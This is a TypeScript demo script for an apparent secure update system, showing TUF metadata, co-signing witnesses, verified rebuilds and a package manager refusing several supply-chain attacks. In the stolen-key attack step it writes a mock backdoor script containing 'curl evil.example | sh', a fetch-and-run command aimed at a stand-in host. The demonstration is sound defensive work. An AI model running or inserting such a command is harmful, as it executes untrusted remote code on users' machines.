// demo/demo.ts: the demonstration `cairn demo` runs (what `npm start` runs): the whole flow on this
// machine with embedded defaults. A publisher makes a repository of real files with offline root keys
// (threshold 2), a delegated role and succinct hash bins; four witnesses run as separate
// processes (`cairn witness serve`) and co-sign every release into the release log; a mirror
// serves the repository on 127.0.0.1; a fresh client pins the first root and the genesis block,
// refreshes (checking the TUF metadata, the co-signed skip path and the freshness of the head)
// and downloads verified targets, printing what it checked at each step. Then attacks are
// refused (a malicious mirror, a frozen mirror, a forged timestamp, a release the witnesses
// never saw), and further releases, one with a root rotation and one with a witness killed, are
// co-signed and picked up through the skipchain. Last, verified builds: a C program built with
// `cairn build` is rebuilt by two verifier processes (PASSED) and co-signed; a tampered binary is
// rebuilt FAILED and refused by the witnesses. Last, the package manager: a package built and
// rebuilt the same way is installed by a user who pinned the root and genesis block, an update
// that asks for more permissions waits for consent, and a rollback returns to the parent. Then a
// log monitor verifies every block and checks every release again, raising nothing. Last,
// App-per-VM (as root, with QEMU): an app is run in its own VM and reaches a server beyond the
// demo's own stand-in for the host (network-lab.ts) only while the network is granted; without root or
// the system packages the step says what is missing and how to install it.
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { chmod, cp, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createHash, generateKeyPairSync } from 'node:crypto';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { create as createTar } from 'tar';
import { writeKeyFile } from '../crypto/key-file.js';
import type { Signer } from '../crypto/signer.js';
import { CairnError } from '../errors/index.js';
import { manifestBytes, packageTargetPath, parseManifest } from '../package/index.js';
import {
  addPackage, addTargets, collectTargetSources, delegatePaths, delegateSuccinct, initRepository, publish, rotateRoot,
} from '../repo/index.js';
import { startMirror, type RunningMirror } from '../mirror/index.js';
import { Updater } from '../tuf/index.js';
import { WitnessedUpdater, initLogAnchor, type WitnessedRefreshReport } from '../client/index.js';
import { initWitness } from '../witness/index.js';
import { LogMonitor } from '../monitor/index.js';
import { startNetworkLab, type NetworkLab } from './network-lab.js';
import { attestationRelativePath, buildPolicyJson, declarationToCustom, describeDifferences, parseDeclarationFile, type DifferenceSummary } from '../policy/index.js';

const PROJECT_ROOT = resolve(fileURLToPath(new URL('../..', import.meta.url)));
const CAIRN_BIN = join(PROJECT_ROOT, 'bin', 'cairn.js');
const WITNESSES = 4;
const HELLO = 'apps/hello/hello';
const THRESHOLD = 3;

export interface DemoOptions {
  /** Work directory (kept afterwards); default: a new temporary directory, removed afterwards unless `keep`. */
  dir?: string;
  keep?: boolean;
  /** Lines for people, step by step. */
  say?: (line: string) => void;
}

export interface DemoSummary {
  workDir: string;
  mirror: string;
  genesis: string;
  downloaded: Array<{ target: string; length: number; sha256: string }>;
  refused: Array<{ attack: string; code: string }>;
  later: { rootVersions: number[]; blocksCaughtUp: number; linksFetched: number; headSigners: number; target: string };
  verifiedBuild: { target: string; genuine: string[]; tampered: string[]; refusedCode: string };
  /** What the package's entry point printed after install, update and rollback; the verifiers' verdicts on both versions. */
  packages: { installed: string; updated: string; rolledBack: string; verdicts: string[] };
  /** The log monitor's first poll of the demo's log: the last block it verified, the mirror's head, and the alarms raised. */
  monitor: { verified: number; head: number; alarms: number };
  /** The app run in its own VM before a network grant, with it and after its revocation, or why that step was skipped. */
  apps: { beforeGrant: string; afterGrant: string; afterRevoke: string; auditEvents: number } | { skipped: string };
}

/**
 * Runs the whole demonstration (see the header) and returns what it showed. Throws when any step
 * does not behave as the design says (an attack accepted, a refusal that wrote something).
 */
export async function runDemo(options: DemoOptions = {}): Promise<DemoSummary & { kept: boolean }> {
  const workDir = options.dir ? resolve(options.dir) : await mkdtemp(join(tmpdir(), 'cairn-demo-'));
  const kept = options.keep === true || options.dir !== undefined;
  try {
    return { ...(await demonstrate(workDir, options.say ?? (() => undefined))), kept };
  } finally {
    if (!kept) await rm(workDir, { recursive: true, force: true });
  }
}

interface KeyPair {
  file: string;
  signer: Signer;
}

async function demonstrate(work: string, print: (line: string) => void): Promise<DemoSummary> {
  const say = (line = ''): void => print(line);
  const step = (title: string): void => say(`\n== ${title}`);
  const children: ChildProcess[] = [];
  const servers: RunningMirror[] = [];
  let lab: NetworkLab | undefined;
  try {
    step('1. publisher: keys');
    await mkdir(join(work, 'keys'), { recursive: true });
    const key = async (name: string): Promise<KeyPair> => {
      const file = join(work, 'keys', `${name}.json`);
      const signer = await writeKeyFile(file, generateKeyPairSync('ed25519').privateKey);
      say(`  keys/${name}.json`.padEnd(26) + ` Ed25519 ${signer.keyid.slice(0, 16)}  (mode 0600)`);
      return { file, signer };
    };
    const keys = {
      root: [await key('root-1'), await key('root-2')],
      targets: await key('targets'),
      snapshot: await key('snapshot'),
      timestamp: await key('timestamp'),
      apps: await key('apps'),
      bins: await key('bins'),
    };
    const online = [keys.snapshot.signer, keys.timestamp.signer];

    step('2. publisher: a repository of real files');
    const repo = join(work, 'repo');
    await initRepository(repo, {
      roles: {
        root: { keys: keys.root.map((k) => k.signer.publicKey), threshold: 2 },
        targets: { keys: [keys.targets.signer.publicKey], threshold: 1 },
        snapshot: { keys: [keys.snapshot.signer.publicKey], threshold: 1 },
        timestamp: { keys: [keys.timestamp.signer.publicKey], threshold: 1 },
      },
      signers: [...keys.root.map((k) => k.signer), keys.targets.signer],
    });
    say('  root: 2 offline keys, threshold 2; targets, snapshot, timestamp: one key each; consistent snapshots');
    await delegatePaths(repo, 'apps', ['apps/*/*'], { keys: [keys.apps.signer.publicKey], threshold: 1, terminating: true, signers: [keys.targets.signer, keys.apps.signer] });
    await delegateSuccinct(repo, 'apps-bin', 4, { from: 'apps', keys: [keys.bins.signer.publicKey], threshold: 1, signers: [keys.apps.signer, keys.bins.signer] });
    say('  targets delegates apps/*/* to role "apps" (terminating); apps spreads its targets over 16 succinct hash bins (TAP 15)');
    const src = join(work, 'release-1');
    await mkdir(join(src, 'apps', 'cairn'), { recursive: true });
    await createTar({ gzip: true, portable: true, mtime: new Date(0), cwd: PROJECT_ROOT, file: join(src, 'apps', 'cairn', 'cairn-src.tar.gz') }, ['src']);
    await cp(join(PROJECT_ROOT, 'README.md'), join(src, 'README.md'));
    await cp(join(PROJECT_ROOT, 'docs', 'architecture.md'), join(src, 'apps', 'cairn', 'architecture.md'));
    await cp(join(PROJECT_ROOT, 'package.json'), join(src, 'apps', 'cairn', 'package.json'));
    const { added } = await addTargets(repo, (await collectTargetSources([src], { baseDir: src })).sources, {
      custom: { release: '1' },
      signers: [keys.targets.signer, keys.apps.signer, keys.bins.signer],
    });
    for (const t of added) say(`  added ${t.path.padEnd(32)} ${String(t.length).padStart(8)} bytes -> role ${t.role}`);
    const first = await publish(repo, { signers: online });
    say(`  published: root v${first.rootVersion}, snapshot v${first.snapshotVersion}, timestamp v${first.timestampVersion}, ${first.published.length} roles, ${first.targetFiles} target files`);

    step(`3. witnesses: ${WITNESSES} independent processes, threshold ${THRESHOLD}`);
    const ports = await freePorts(WITNESSES);
    const witnessUrls: string[] = [];
    const witnessDirs: string[] = [];
    for (let i = 0; i < WITNESSES; i++) {
      const dir = join(work, 'witnesses', `w${i + 1}`);
      const url = `http://127.0.0.1:${ports[i]}`;
      // Each witness serves only the log whose genesis roster these root keys authorize.
      const { entry } = await initWitness(dir, { name: `w${i + 1}`, address: url, chain: { rootKeys: keys.root.map((k) => k.signer.publicKey), threshold: 2 } });
      witnessUrls.push(url);
      witnessDirs.push(dir);
      say(`  w${i + 1}  ${url}  key ${entry.key.slice(0, 16)}  (proof of possession ${entry.pop.slice(0, 12)}...)`);
    }
    await Promise.all(witnessDirs.map(async (dir, i) => {
      children[i] = await startWitness(dir, ports[i]!);
    }));
    say(`  each runs \`cairn witness serve\` with its own key and SQLite state, for the one log its operator named (the root keys)`);
    // The root keys stay with their holders: the roster request is signed on each holder's machine.
    const request = join(work, 'roster-request.json');
    await cairnJson(['log', 'init', repo, ...witnessUrls.flatMap((u) => ['--witness', u]), '--threshold', String(THRESHOLD), '--prepare', request]);
    const rosterSignatures = await Promise.all(keys.root.map(async (k, i) => {
      const sig = join(work, `roster-root-${i + 1}.sig.json`);
      await cairnJson(['log', 'sign-roster', request, '--key', k.file, '--out', sig]);
      return sig;
    }));
    say(`  cairn log init --prepare wrote the roster request; each root key holder signed it offline (cairn log sign-roster)`);
    // The publisher leads as w1: witnesses work only for a member of their roster.
    const leaderKeyArgs = ['--leader-key', join(witnessDirs[0]!, 'witness-key.json')];
    const init = await cairnJson(['log', 'init', repo, '--authorization', request, ...rosterSignatures.flatMap((f) => ['--signature', f]), ...leaderKeyArgs]);
    const genesis = String(init.genesis);
    say(`  cairn log init: each witness checked release 1 and the roster (proofs of possession, root authorization by 2 of 2 root keys)`);
    say(`  genesis block ${genesis}: the clients' trust anchor, with root.json`);

    step('4. mirror: serve repo/public read-only on loopback');
    const mirror = await startMirror({ root: join(repo, 'public') });
    servers.push(mirror);
    say(`  ${mirror.url}  (metadata/, targets/ and log/; mirrors are untrusted: the client checks everything)`);

    step('5. client: pin the first root and the genesis block, refresh, download');
    const clientDir = join(work, 'client');
    const metadataDir = join(clientDir, 'metadata');
    await Updater.initTrustedRoot(metadataDir, await readFile(join(repo, 'public', 'metadata', '1.root.json')));
    await initLogAnchor(metadataDir, { hash: genesis });
    say('  trust anchor: 1.root.json (self-signed by 2 of 2 root keys) and the genesis block hash');
    const client = (url: string, now?: () => Date): WitnessedUpdater =>
      new WitnessedUpdater({ metadataDir, metadataBaseUrl: `${url}/metadata`, targetBaseUrl: `${url}/targets`, targetDir: join(clientDir, 'targets'), ...(now ? { now } : {}) });
    const updater = client(mirror.url);
    printRefresh(say, await updater.refresh());
    const downloaded: DemoSummary['downloaded'] = [];
    for (const t of added) {
      const info = await updater.getTargetInfo(t.path);
      if (!info) throw new Error(`demo: ${t.path} not found`);
      const path = await updater.downloadTarget(info);
      downloaded.push({ target: t.path, length: info.length, sha256: info.hashes.sha256! });
      say(`  ok  ${t.path.padEnd(30)} via ${t.role === 'targets' ? 'targets' : `targets -> apps -> ${t.role}`}; length ${info.length}, sha256 ${info.hashes.sha256!.slice(0, 12)} verified -> ${path.slice(work.length + 1)}`);
    }

    step('6. attacks');
    const before = await fingerprint(clientDir);
    const refused: DemoSummary['refused'] = [];
    const attempt = async (attack: string, fn: () => Promise<unknown>): Promise<void> => {
      try {
        await fn();
        throw new Error(`demo: the client accepted ${attack}`);
      } catch (e) {
        if (!(e instanceof CairnError)) throw e;
        refused.push({ attack, code: e.code });
        say(`  refused  ${attack}: [${e.code}] ${e.message}`);
      }
    };
    const evil = join(work, 'evil-mirror');
    await cp(join(repo, 'public'), evil, { recursive: true });
    const tarball = added.find((t) => t.path.endsWith('.tar.gz'))!;
    const evilFile = join(evil, 'targets', 'apps', 'cairn', `${tarball.sha256}.cairn-src.tar.gz`);
    const bytes = await readFile(evilFile);
    bytes[bytes.length >> 1] = bytes[bytes.length >> 1]! ^ 0xff;
    await writeFile(evilFile, bytes);
    const evilServer = await startMirror({ root: evil });
    servers.push(evilServer);
    await attempt('a mirror serving the tarball with one byte flipped', async () => {
      const u = client(evilServer.url);
      await u.downloadTarget((await u.getTargetInfo(tarball.path))!, join(clientDir, 'evil-download'));
    });
    await attempt('a frozen mirror (the same metadata and head replayed 30 days later)', () =>
      client(mirror.url, () => new Date(Date.now() + 30 * 86_400_000)).refresh(),
    );
    const timestampPath = join(evil, 'metadata', 'timestamp.json');
    const forged = JSON.parse(await readFile(timestampPath, 'utf8')) as { signed: { version: number } };
    forged.signed.version += 1;
    await writeFile(timestampPath, JSON.stringify(forged));
    // A mirror process started now serves the forged file at once (a running one revalidates its cache of small files within 0.5 s).
    const forgingServer = await startMirror({ root: evil });
    servers.push(forgingServer);
    await attempt('a timestamp altered after signing', () => client(forgingServer.url).refresh());
    // A thief with every developer and online key publishes without the witnesses.
    const stolen = join(work, 'stolen-repo');
    await cp(repo, stolen, { recursive: true });
    await rm(join(stolen, 'state', 'log.json'), { force: true });
    const backdoor = join(work, 'backdoor');
    await mkdir(join(backdoor, 'apps', 'cairn'), { recursive: true });
    await writeFile(join(backdoor, 'apps', 'cairn', 'update.sh'), '#!/bin/sh\ncurl evil.example | sh\n');
    await addTargets(stolen, (await collectTargetSources([backdoor], { baseDir: backdoor })).sources, { signers: [keys.bins.signer] });
    await publish(stolen, { signers: online });
    const stolenServer = await startMirror({ root: join(stolen, 'public') });
    servers.push(stolenServer);
    await attempt('a release signed with stolen keys that the witnesses never saw', () => client(stolenServer.url).refresh());
    if ((await fingerprint(clientDir)) !== before) throw new Error('demo: a refused attack changed the client\'s files');
    say('  checked: the client\'s trusted metadata, log anchor and installed files are byte-identical to before the attacks');

    step('7. more releases: a root rotation, then one witness killed');
    const newRoot = [await key('root-3'), await key('root-4')];
    await rotateRoot(repo, { roles: { root: { keys: newRoot.map((k) => k.signer.publicKey), threshold: 2 } }, signers: [...keys.root, ...newRoot].map((k) => k.signer) });
    say('  root v2 staged: new root keys, signed by 2 of 2 old AND 2 of 2 new root keys');
    const onlineKeyArgs = ['--key', keys.snapshot.file, '--key', keys.timestamp.file, ...leaderKeyArgs];
    let lastTarget = '';
    for (let release = 2; release <= 6; release++) {
      if (release === 4) {
        children[WITNESSES - 1]!.kill('SIGKILL');
        say(`  w${WITNESSES} killed (SIGKILL): ${WITNESSES - 1} of ${WITNESSES} witnesses left, threshold ${THRESHOLD}`);
      }
      const dir = join(work, `release-${release}`);
      await mkdir(join(dir, 'apps', 'cairn'), { recursive: true });
      lastTarget = `apps/cairn/CHANGES-${release}.txt`;
      await writeFile(join(dir, lastTarget), `release ${release}\n`);
      await addTargets(repo, (await collectTargetSources([dir], { baseDir: dir })).sources, { custom: { release: String(release) }, signers: [keys.bins.signer] });
      const published = await cairnJson(['repo', 'publish', repo, ...onlineKeyArgs]);
      const log = published.log as { index: number; rounds: Array<{ what: string; cosigners: string[] }> } | undefined;
      if (!log) throw new Error('demo: publish did not go through the witnesses');
      const approval = log.rounds[0]!;
      say(`  release ${release}: block ${log.index} co-signed by ${approval.cosigners.length} witnesses (${approval.cosigners.join(', ')}) before anything was written`);
    }

    step('8. the client catches up through the skipchain');
    const next = client(mirror.url);
    const report = await next.refresh();
    printRefresh(say, report);
    const info = (await next.getTargetInfo(lastTarget))!;
    await next.downloadTarget(info);
    say(`  ok  ${lastTarget}: verified under root v${report.root.version}, recorded in block ${report.log.head.index}`);

    step('9. verified builds: two rebuilders, and witnesses that refuse what nobody could reproduce');
    const verifiers = [await key('verifier-1'), await key('verifier-2')];
    await rotateRoot(repo, { buildPolicy: buildPolicyJson(verifiers.map((v) => v.signer.publicKey), 2, { requireFullIsolation: true }), signers: newRoot.map((k) => k.signer) });
    say('  root v3 names two build verifiers, quorum 2, rebuilt under full isolation (only the root threshold can change that)');
    const dist = join(work, 'dist');
    const built = await cairnJson(['build', join(PROJECT_ROOT, 'examples', 'hello-c'), '--out', dist, '--command', 'make', '--output', 'hello',
      '--target', HELLO, '--source-date-epoch', '1700000000', '--source-uri', pathToFileURL(join(dist, 'hello.src.tar')).href]);
    const declaration = parseDeclarationFile(await readFile(join(dist, 'hello.declaration.json')));
    say(`  cairn build: examples/hello-c with gcc and make in ${String(built.isolation)}: ${HELLO} sha256 ${declaration.artifact.sha256.slice(0, 12)}, source ${declaration.source.sha256.slice(0, 12)}`);
    const developers = [keys.targets.signer, keys.apps.signer, keys.bins.signer];
    await addTargets(repo, [{ file: join(dist, 'hello'), path: HELLO }], { custom: declarationToCustom(declaration), signers: developers });
    // Each verifier writes into its own tree and serves it read-only; the publisher pulls from them.
    const verifierTrees = verifiers.map((_, i) => join(work, `verifier-${i + 1}`, 'out'));
    const verifierServers = await Promise.all(verifierTrees.map((root) => mkdir(root, { recursive: true }).then(() => startMirror({ root }))));
    servers.push(...verifierServers);
    const pullArgs = verifiers.flatMap((v, i) => ['--attestations-from', `${v.signer.keyid}=${verifierServers[i]!.url}`]);
    say(`  each verifier serves its own attestations read-only (${verifierServers.map((m) => m.url).join(', ')}); the publisher pulls from them`);
    const verdicts = async (artifact: string, target = HELLO): Promise<string[]> => {
      const sha256 = createHash('sha256').update(await readFile(artifact)).digest('hex');
      const results = await Promise.all(verifiers.map((v, i) => cairnJson(['rebuild', 'run', '--allow-file-sources', '--repo', repo, '--target', target, '--key', v.file,
        '--out', join(verifierTrees[i]!, attestationRelativePath(target, sha256, v.signer.keyid))], true)));
      return results.map((r, i) => {
        const summary = r.differences === null || r.differences === undefined ? '' : ` (${describeDifferences(r.differences as DifferenceSummary)})`;
        say(`  verifier-${i + 1} rebuilt ${target} in ${String(r.isolation ?? 'its sandbox')}: ${String(r.result)}${summary}`);
        return String(r.result);
      });
    };
    const good = await verdicts(join(dist, 'hello'));
    const release7 = await cairnJson(['repo', 'publish', repo, ...onlineKeyArgs, ...pullArgs]);
    const logged7 = release7.log as { index: number; rounds: Array<{ cosigners: string[] }> };
    say(`  release 7: block ${logged7.index} co-signed by ${logged7.rounds[0]!.cosigners.length} witnesses after each checked 2 PASSED attestations for ${HELLO}`);
    // A thief with the targets key swaps in a binary with one byte changed, under the genuine declaration.
    const tampered = Buffer.from(await readFile(join(dist, 'hello')));
    tampered[5000] = tampered[5000]! ^ 0x01;
    await writeFile(join(dist, 'hello-tampered'), tampered);
    await addTargets(repo, [{ file: join(dist, 'hello-tampered'), path: HELLO }], { custom: declarationToCustom(declaration), signers: developers });
    const bad = await verdicts(join(dist, 'hello-tampered'));
    const publicBefore = await fingerprint(join(repo, 'public'));
    const refusedRelease = await cairnJson(['repo', 'publish', repo, ...onlineKeyArgs, ...pullArgs], true);
    const witnessCodes = ((refusedRelease.witnesses as Array<{ code?: string }> | undefined) ?? []).map((w) => w.code).filter((c) => c !== undefined);
    say(`  release 8 (tampered): refused [${String(refusedRelease.code)}]; witnesses said ${[...new Set(witnessCodes)].join(', ')}; nothing was published`);
    if ((await fingerprint(join(repo, 'public'))) !== publicBefore) throw new Error('demo: a refused release changed public/');
    refused.push({ attack: 'a tampered binary published with stolen developer keys', code: String(refusedRelease.code) });
    const last = new WitnessedUpdater({ metadataDir, metadataBaseUrl: `${mirror.url}/metadata`, targetBaseUrl: `${mirror.url}/targets`, targetDir: join(clientDir, 'targets'), verifyAttestations: true });
    await last.refresh();
    const helloInfo = (await last.getTargetInfo(HELLO))!;
    const helloPath = await last.downloadTarget(helloInfo);
    if (createHash('sha256').update(await readFile(helloPath)).digest('hex') !== declaration.artifact.sha256) throw new Error('demo: the client did not get the genuine binary');
    say(`  the client installs the genuine ${HELLO} (sha256 ${declaration.artifact.sha256.slice(0, 12)}) after re-checking its 2 PASSED attestations against the digest the witnessed block records`);

    step('10. the package manager: install, an update that asks for more, rollback');
    // The refused tampered binary is still staged: the publisher puts the genuine one back first.
    await addTargets(repo, [{ file: join(dist, 'hello'), path: HELLO }], { custom: declarationToCustom(declaration), signers: developers });
    // The publisher builds a package with gcc and GNU tar (tools every sandbox has); the verifiers rebuild the archive itself.
    const packageRelease = async (version: string, permissions: string[], name = 'hello'): Promise<{ target: string; verdicts: string[]; block: number }> => {
      const src = join(work, `${name}-pkg-${version}`);
      await cp(join(PROJECT_ROOT, 'examples', `${name}-pkg`), src, { recursive: true });
      const example = parseManifest(JSON.parse(await readFile(join(src, 'cairn-package.json'), 'utf8')), `examples/${name}-pkg`);
      await writeFile(join(src, 'cairn-package.json'), manifestBytes(parseManifest({ ...example, permissions, version }, 'the demo package')));
      const out = join(work, `dist-${name}-pkg-${version}`);
      const target = packageTargetPath(name, version);
      await cairnJson(['build', src, '--out', out, '--command', 'make', '--output', 'package.tar', '--target', target,
        '--source-date-epoch', '1700000000', '--source-uri', pathToFileURL(join(out, `${target.split('/').pop()}.src.tar`)).href]);
      const archive = join(out, target.split('/').pop()!);
      await addPackage(repo, archive, { custom: declarationToCustom(parseDeclarationFile(await readFile(join(out, `${target.split('/').pop()}.declaration.json`)))), signers: developers });
      const results = await verdicts(archive, target);
      const published = await cairnJson(['repo', 'publish', repo, ...onlineKeyArgs, ...pullArgs]);
      return { target, verdicts: results, block: (published.log as { index: number }).index };
    };
    const v1 = await packageRelease('1.0.0', []);
    say(`  published ${v1.target} (cairn build: gcc, then GNU tar writes the deterministic archive); block ${v1.block}`);
    const store = join(work, 'store');
    const user = (args: string[], allowFailure = false): Promise<Record<string, unknown>> => cairnJson([...args, '--store', store], allowFailure);
    await user(['remote', 'add', 'demo', mirror.url, '--root', join(repo, 'public', 'metadata', '1.root.json'), '--log-anchor', genesis]);
    say(`  cairn remote add demo ${mirror.url} --root 1.root.json --log-anchor ${genesis.slice(0, 12)}...  (trust pinned, never taken on first use)`);
    const pkgInfo = await user(['info', 'hello']);
    say(`  cairn info hello: ${String(pkgInfo.version)}, ${String(pkgInfo.length)} bytes, permissions requested: ${(pkgInfo.permissions as string[]).join(', ') || 'none'}, verified builds: ${String(pkgInfo.attestations)}, witnessed in block ${String(pkgInfo.block).slice(0, 16)}...`);
    const installed = await user(['install', 'hello']);
    const run = (): Promise<string> => new Promise((done, fail) => {
      const child = spawn(join(store, 'current', 'bin', 'hello'), { stdio: ['ignore', 'pipe', 'inherit'] });
      let text = '';
      child.stdout.on('data', (d: Buffer) => (text += d.toString()));
      child.on('error', fail);
      child.on('close', () => done(text.trim()));
    });
    say(`  cairn install hello: generation ${String((installed.generation as { number: number }).number)}; $ ${join('store', 'current', 'bin', 'hello')}`);
    const ranFirst = await run();
    say(`    ${ranFirst}`);
    const v2 = await packageRelease('2.0.0', ['network:outbound:example.org:443']);
    say(`  published ${v2.target}, which also asks to reach example.org:443; block ${v2.block}`);
    const refusedUpdate = await user(['update'], true);
    if (refusedUpdate.code !== 'PERMISSION_CONSENT_NEEDED') throw new Error(`demo: an update asking for more permissions was not stopped: ${JSON.stringify(refusedUpdate)}`);
    say(`  cairn update: refused [${String(refusedUpdate.code)}]: ${String(refusedUpdate.message)}`);
    refused.push({ attack: 'an update that asks for more permissions, without consent', code: String(refusedUpdate.code) });
    const accepted = await user(['update', '--accept-permissions']);
    say(`  cairn update --accept-permissions: generation ${String((accepted.generation as { number: number }).number)} (requested, still not granted: App-per-VM grants)`);
    const ranSecond = await run();
    say(`    ${ranSecond}`);
    const rolledBack = await user(['rollback']);
    say(`  cairn rollback: generation ${String(rolledBack.to)} is active again (the parent of ${String(rolledBack.from)})`);
    const ranAfter = await run();
    say(`    ${ranAfter}`);
    const verified = await user(['verify']);
    say(`  cairn verify: ${String(verified.checkedStorePaths)} store paths re-hashed, ${(verified.problems as unknown[]).length} problems`);
    if (!ranFirst.includes('1.0.0') || !ranSecond.includes('2.0.0') || !ranAfter.includes('1.0.0') || (verified.problems as unknown[]).length !== 0) {
      throw new Error('demo: the package manager did not install, update and roll back as it should');
    }

    step('11. a log monitor: every block and every release checked again');
    const monitor = new LogMonitor({ chain: genesis, sources: [`${mirror.url}/log/`], stateDir: join(work, 'monitor'), maxHeadAgeSeconds: 86_400 });
    let monitored;
    try {
      monitored = await monitor.poll();
    } finally {
      monitor.close();
    }
    const problem = monitored.sources[0]!.problem;
    if (monitored.alarms.length > 0 || problem !== null) throw new Error(`demo: the monitor raised ${monitored.alarms.map((a) => `${a.kind}: ${a.message}`).join('; ') || `a problem: ${problem?.message}`}`);
    say(`  cairn monitor: blocks 0-${monitored.verified.index} verified from the genesis block (each co-signed link, roster and root change), and each release checked again as the witnesses checked it (TUF state; 2 PASSED attestations wherever the build policy asks): no alarm`);

    step('12. App-per-VM: an app in its own VM, refused the network until the user grants it');
    const appsMissing = appPerVmMissing();
    let apps: DemoSummary['apps'];
    if (appsMissing !== undefined) {
      say(`  skipped: ${appsMissing}`);
      apps = { skipped: appsMissing };
    } else {
      const fetch = await packageRelease('1.0.0', ['network:outbound:198.18.0.1:8080'], 'fetch');
      say(`  published ${fetch.target}, a shell script that asks 198.18.0.1:8080 for a page; it requests network:outbound:198.18.0.1:8080; block ${fetch.block}`);
      await user(['install', 'fetch', '--accept-permissions']);
      say('  cairn install fetch --accept-permissions: installed; requested is not granted (cairn permissions fetch)');
      const runtime = await user(['runtime', 'build']);
      say(`  cairn runtime build: the guest kernel ${String(runtime.kernelRelease)} and busybox from Debian's packages, each .deb's sha256 checked against apt's index`);
      // The app's own user must reach its store path: the work directory is traversable, not listable.
      await chmod(work, 0o711);
      lab = await startNetworkLab(String(process.pid));
      let acceleration = '';
      const runFetch = async (): Promise<string> => {
        const r = await user(['run', 'fetch', '--network-uplink', lab!.uplink], true);
        if (typeof r.exitCode !== 'number') throw new Error(`demo: cairn run fetch failed: ${JSON.stringify(r)}`);
        acceleration = r.acceleration === 'kvm' ? 'KVM' : 'software emulation: no /dev/kvm';
        return (r.output as string[]).join(' / ');
      };
      const before = await runFetch();
      say(`  cairn run fetch (its own VM under QEMU, ${acceleration}, as its own host user): ${before}`);
      await user(['grant', 'fetch', 'network']);
      say('  cairn grant fetch network: network:outbound:198.18.0.1:8080 granted (the audit trail records who and when)');
      const granted = await runFetch();
      say(`  cairn run fetch: ${granted}  (its namespace's nftables rules let through that address and port only)`);
      await user(['revoke', 'fetch', 'network']);
      const revoked = await runFetch();
      say(`  cairn revoke fetch network, cairn run fetch: ${revoked}`);
      const audit = (await user(['audit', 'fetch'])) as unknown as Array<{ action: string; permission: string; actor: string }>;
      for (const e of audit) say(`  cairn audit fetch: ${e.actor} ${e.action === 'grant' ? 'granted' : 'revoked'} ${e.permission}`);
      if (!before.endsWith('refused') || !granted.includes('answered') || !revoked.endsWith('refused') || audit.length !== 2) {
        throw new Error('demo: the app reached the network before it was granted, or not once granted');
      }
      apps = { beforeGrant: before, afterGrant: granted, afterRevoke: revoked, auditEvents: audit.length };
    }

    return {
      workDir: work,
      mirror: mirror.url,
      genesis,
      downloaded,
      refused,
      later: {
        rootVersions: report.rootVersions,
        blocksCaughtUp: report.log.blocksCaughtUp,
        linksFetched: report.log.links,
        headSigners: report.log.head.signers,
        target: lastTarget,
      },
      verifiedBuild: { target: HELLO, genuine: good, tampered: bad, refusedCode: String(refusedRelease.code) },
      packages: { installed: ranFirst, updated: ranSecond, rolledBack: ranAfter, verdicts: [...v1.verdicts, ...v2.verdicts] },
      monitor: { verified: monitored.verified.index, head: monitored.sources[0]!.head!.index, alarms: monitored.alarms.length },
      apps,
    };
  } finally {
    for (const s of servers) await s.close();
    for (const c of children) if (c && c.exitCode === null && c.signalCode === null) c.kill('SIGTERM');
    lab?.close();
  }
}

/** What step 12 lacks on this machine (said with the command that installs it), or undefined. */
function appPerVmMissing(): string | undefined {
  if (process.getuid?.() !== 0) return 'a granted network needs the system scope: run npm start as root (an app gets its own host user and network namespace)';
  const tools: Array<[string, string]> = [['qemu-system-x86_64', 'qemu-system-x86'], ['bwrap', 'bubblewrap'], ['ip', 'iproute2'], ['nft', 'nftables'], ['dpkg-deb', 'dpkg'], ['apt-get', 'apt']];
  const missing = tools.filter(([tool]) => spawnSync('sh', ['-c', `command -v ${tool}`], { stdio: 'ignore' }).status !== 0).map(([, pkg]) => pkg);
  return missing.length === 0 ? undefined : `App-per-VM needs ${missing.join(', ')}: sudo apt-get install ${missing.join(' ')}`;
}


function printRefresh(say: (line: string) => void, report: WitnessedRefreshReport): void {
  say(`  refresh at ${report.referenceTime}:`);
  for (const s of report.steps) say(`    ok  ${s.text}`);
}

/** Runs `cairn --json ARGS` as a separate process and returns its JSON result, an object or an array (also on failure when `allowFailure`). */
function cairnJson(args: string[], allowFailure = false): Promise<Record<string, unknown>> {
  return new Promise((resolveRun, reject) => {
    const child = spawn(process.execPath, [CAIRN_BIN, '--json', ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('error', reject);
    child.on('close', (code) => {
      if (code !== 0 && !allowFailure) return reject(new Error(`cairn ${args.slice(0, 2).join(' ')} failed (exit ${code}): ${stdout}${stderr}`));
      try {
        resolveRun(JSON.parse(stdout.slice(stdout.search(/[[{]/))) as Record<string, unknown>);
      } catch {
        reject(new Error(`cairn ${args.slice(0, 2).join(' ')}: output is not JSON: ${stdout}`));
      }
    });
  });
}

/** Starts `cairn witness serve` for `dir` and resolves once it listens. */
function startWitness(dir: string, port: number): Promise<ChildProcess> {
  return new Promise((resolveStart, reject) => {
    const child = spawn(process.execPath, [CAIRN_BIN, 'witness', 'serve', '--dir', dir, '--port', String(port)], { stdio: ['ignore', 'pipe', 'pipe'] });
    let output = '';
    const timer = setTimeout(() => reject(new Error(`witness in ${dir} did not start within 60 s: ${output}`)), 60_000);
    child.stdout.on('data', (d: Buffer) => {
      output += d.toString();
      if (output.includes('listening at')) {
        clearTimeout(timer);
        resolveStart(child);
      }
    });
    child.stderr.on('data', (d: Buffer) => (output += d.toString()));
    child.on('exit', (code) => {
      clearTimeout(timer);
      reject(new Error(`witness in ${dir} exited (${code}) before listening: ${output}`));
    });
  });
}

/** Free TCP ports on 127.0.0.1. */
async function freePorts(n: number): Promise<number[]> {
  const ports: number[] = [];
  for (let i = 0; i < n; i++) {
    ports.push(await new Promise<number>((resolvePort, reject) => {
      const s = createServer();
      s.once('error', reject);
      s.listen(0, '127.0.0.1', () => {
        const { port } = s.address() as { port: number };
        s.close(() => resolvePort(port));
      });
    }));
  }
  return ports;
}

/** SHA-256 over every file name and content under `dir`, to show that a refusal wrote nothing. */
async function fingerprint(dir: string): Promise<string> {
  const hash = createHash('sha256');
  const entries = (await readdir(dir, { recursive: true, withFileTypes: true })).filter((e) => e.isFile());
